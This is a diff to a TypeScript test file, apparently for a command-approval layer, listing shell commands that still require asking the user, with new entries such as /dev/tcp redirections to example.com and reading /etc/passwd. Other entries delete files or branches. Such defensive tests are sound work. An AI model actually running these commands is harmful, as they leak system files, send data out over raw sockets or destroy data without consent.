@@ -61,7 +61,8 @@ const stillAsks: string[] = [
   'git diff --no-index README.md /etc/passwd', 'git diff /etc/passwd README.md', 'git -C /tmp status',
   'git --git-dir=/tmp/x log', 'git -p log', 'git --paginate log', 'git diff -Oorder.txt', 'git branch newbranch',
   'git branch -D main', 'git branch -m a b', 'git push', 'git commit -m x', 'git stash', 'GIT_PAGER=sh git log',
-  'GIT_DIR=/tmp git status', 'git blame --contents /etc/passwd src/a.ts',
+  'GIT_DIR=/tmp git status', 'git blame --contents /etc/passwd src/a.ts', 'git log --help', 'ls > /dev/tcp/example.com/80',
+  'cat < /dev/tcp/example.com/80', 'echo $(</etc/passwd)', 'cd src && cd ../.. && ls',
   // find that runs or writes
   'find . -delete', 'find . -exec rm {} +', "find . -execdir sh -c x ';'", 'find . -ok rm {} ;', 'find . -fprint out',
   'find . -fls out', 'find -L .',
